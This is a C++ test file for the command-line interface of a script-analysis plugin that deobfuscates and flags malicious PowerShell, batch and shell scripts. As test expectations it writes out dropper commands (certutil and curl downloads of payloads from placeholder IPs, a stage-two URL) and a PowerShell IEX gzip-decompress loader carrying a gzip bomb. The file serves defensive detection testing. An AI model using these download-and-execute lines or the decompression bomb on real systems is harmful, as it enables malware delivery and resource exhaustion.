// ScriptAnalysis end to end: the real `secpilot` binary loads the built plugin folder and runs
// both skills, as a person or a script would. The host validates every result against the
// manifest's Outputs schema, so a passing call also proves the result has the documented shape.
#include <algorithm>
#include <filesystem>

#include <gtest/gtest.h>
#include <zlib.h>
#include <boost/json.hpp>

#include "script_analysis/base64.hpp"
#include "support/files.hpp"
#include "support/run.hpp"

namespace script_analysis {
namespace {

namespace fs = std::filesystem;
namespace json = boost::json;
using secpilot::testing::RunResult;

const std::string kCli = std::string(SECPILOT_BINARY_DIR) + "/bin/secpilot";
const std::string kPlugin = std::string(SECPILOT_BINARY_DIR) + "/plugins/script-analysis";
const fs::path kCorpus = fs::path(SCRIPT_ANALYSIS_SOURCE_DIR) / "tests" / "corpus";

// Local mode against this plugin only, whatever the environment says about a daemon.
RunResult cli(std::vector<std::string> args) {
  args.insert(args.begin(), {kCli, "--plugins-dir", kPlugin});
  return secpilot::testing::run(args, {.env = {"SECPILOT_SERVER", "SECPILOT_KEY"}, .input = {}});
}

RunResult invoke(const std::string& skill, const json::object& inputs) {
  return cli({"invoke", "ScriptAnalysis." + skill, "--json", json::serialize(inputs)});
}

std::string corpus(const std::string& file) {
  return secpilot::testing::read_file(kCorpus / file);
}

TEST(ScriptAnalysisCli, AnalyzeScriptFindsTheDropperInsideAnEncodedCommand) {
  auto run = invoke("AnalyzeScript", {{"script", corpus("ps_encoded_download.ps1")}});
  ASSERT_EQ(run.exit_code, 0) << run.err;
  auto result = json::parse(run.out).as_object();
  EXPECT_EQ(result.at("verdict"), "malicious");
  EXPECT_EQ(result.at("language"), "powershell");
  const auto& indicator = result.at("indicators").as_array().at(0).as_object();
  EXPECT_EQ(indicator.at("value"), "http://198.51.100.23/stage2.ps1");
  EXPECT_EQ(indicator.at("layer"), 1);
  bool ingress = false;
  for (const auto& technique : result.at("techniques").as_array())
    ingress |= technique.at("id") == "T1105" && technique.at("name") == "Ingress Tool Transfer";
  EXPECT_TRUE(ingress) << run.out;
  EXPECT_EQ(result.at("layers").as_array().at(1).at("technique"), "encoded_command");
}

TEST(ScriptAnalysisCli, DeobfuscateScriptReturnsTheLayersAndTheFinalText) {
  auto run = invoke("DeobfuscateScript", {{"script", corpus("bat_set_splice.bat")}});
  ASSERT_EQ(run.exit_code, 0) << run.err;
  auto result = json::parse(run.out).as_object();
  EXPECT_EQ(result.at("language"), "batch");
  EXPECT_GE(result.at("layers").as_array().size(), 2u);
  EXPECT_NE(std::string(result.at("final_text").as_string())
                .find("certutil -urlcache -split -f http://203.0.113.61/drop.exe"),
            std::string::npos)
      << run.out;
  EXPECT_FALSE(result.contains("verdict"));  // layers only
}

TEST(ScriptAnalysisCli, TheLanguageInputOverridesDetection) {
  auto run = cli({"invoke", "ScriptAnalysis.DeobfuscateScript", "--input",
                  "script=a=cu;b=rl;$a$b http://192.0.2.4/", "--input", "language=bash"});
  ASSERT_EQ(run.exit_code, 0) << run.err;
  auto result = json::parse(run.out).as_object();
  EXPECT_EQ(result.at("language"), "shell");
  EXPECT_EQ(result.at("language_source"), "given");
  EXPECT_EQ(result.at("final_text"), "a=cu;b=rl;curl http://192.0.2.4/");
}

TEST(ScriptAnalysisCli, AnUnknownLanguageIsInvalidInput) {
  auto run = cli({"invoke", "ScriptAnalysis.AnalyzeScript", "--input", "script=echo hi", "--input",
                  "language=cobol"});
  EXPECT_EQ(run.exit_code, 1);
  EXPECT_NE(run.err.find("the input 'language' is 'cobol': use one of"), std::string::npos)
      << run.err;
}

TEST(ScriptAnalysisCli, EveryCorpusScriptPassesTheOutputsSchema) {
  size_t scripts = 0;
  for (const auto& entry : fs::directory_iterator(kCorpus)) {
    const std::string name = entry.path().filename().string();
    if (name.ends_with(".json") || name.ends_with(".md")) continue;
    ++scripts;
    auto run = invoke("AnalyzeScript", {{"script", corpus(name)}});
    EXPECT_EQ(run.exit_code, 0) << name << ": " << run.err;
  }
  EXPECT_GE(scripts, 25u);
}

// 64 MiB of zeros, gzip-compressed to about 64 KB: small enough for one command-line argument.
std::string gzip_bomb() {
  const std::string zeros(size_t{64} << 20, '\0');
  uLongf size = compressBound(static_cast<uLong>(zeros.size()));
  std::string out(size, '\0');
  z_stream stream{};
  deflateInit2(&stream, 9, Z_DEFLATED, 16 + 15, 9, Z_DEFAULT_STRATEGY);
  stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(zeros.data()));
  stream.avail_in = static_cast<uInt>(zeros.size());
  stream.next_out = reinterpret_cast<Bytef*>(out.data());
  stream.avail_out = static_cast<uInt>(out.size());
  deflate(&stream, Z_FINISH);
  out.resize(stream.total_out);
  deflateEnd(&stream);
  return out;
}

TEST(ScriptAnalysisCli, AGzipBombIsALimitHitNotAFailure) {
  const std::string script =
      "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream]"
      "[Convert]::FromBase64String('" +
      encode_base64(gzip_bomb()) + "'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()";
  auto run = invoke("AnalyzeScript", {{"script", script}});
  ASSERT_EQ(run.exit_code, 0) << run.err.substr(0, 500);
  auto result = json::parse(run.out).as_object();
  const auto& limits = result.at("limits_hit").as_array();
  EXPECT_NE(std::find(limits.begin(), limits.end(), json::value("decompressed size")), limits.end())
      << json::serialize(limits);
  EXPECT_LT(run.out.size(), size_t{4} << 20);
}

TEST(ScriptAnalysisCli, TheShippedManifestLintsCleanAndDescribesItsSkills) {
  auto lint = cli({"manifest", "lint", kPlugin + "/script-analysis.yaml"});
  EXPECT_EQ(lint.exit_code, 0) << lint.out << lint.err;
  EXPECT_EQ(lint.out, "") << lint.out;

  auto show = cli({"skills", "show", "ScriptAnalysis.AnalyzeScript", "--json"});
  ASSERT_EQ(show.exit_code, 0) << show.err;
  auto skill = json::parse(show.out).as_object();
  EXPECT_EQ(skill.at("inputs").as_array().at(0).at("type"), "script");
  bool yields_techniques = false;
  for (const auto& entity : skill.at("outputEntities").as_array())
    yields_techniques |= entity == "mitre_technique";
  EXPECT_TRUE(yields_techniques) << show.out;
}

}  // namespace
}  // namespace script_analysis
